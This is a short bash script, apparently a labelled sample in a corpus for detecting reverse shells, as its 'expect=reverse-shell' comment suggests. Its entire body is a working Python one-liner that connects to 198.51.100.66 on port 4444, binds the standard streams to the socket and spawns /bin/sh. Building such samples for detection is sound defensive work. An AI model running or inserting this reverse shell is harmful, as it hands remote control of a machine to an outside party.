#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=python3 seconds=10
# Python gives a shell a terminal of its own and carries it over a socket.
cd "$LAB" || exit 1
exec python3 -c 'import os, pty, socket
s = socket.create_connection(("198.51.100.66", 4444))
for n in range(3):
    os.dup2(s.fileno(), n)
pty.spawn("/bin/sh")'
